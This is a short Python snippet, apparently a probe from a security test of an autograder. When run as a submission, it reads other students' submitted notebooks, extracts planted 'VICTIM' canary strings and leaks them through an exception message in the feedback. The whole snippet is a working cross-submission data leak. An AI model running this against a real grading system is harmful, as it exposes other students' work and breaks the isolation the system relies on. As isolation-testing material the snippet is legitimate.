# Leak other students' code through the own feedback: read their submitted notebooks directly.
def _attack():
    import glob
    import re

    found = set()
    for path in sorted(glob.glob("{COURSE}/submitted/*/xor_sgd/xor_sgd.ipynb")):
        try:
            with open(path, encoding="utf-8") as handle:
                found.update(re.findall(r"VICTIM-[0-9a-f]{12}-[0-9]", handle.read()))
        except OSError:
            pass
    return ", ".join(sorted(found))


_leaked = ""
try:
    _leaked = _attack()
except Exception:
    pass
if _leaked:
    raise RuntimeError(f"LEAK victim file: {_leaked}")
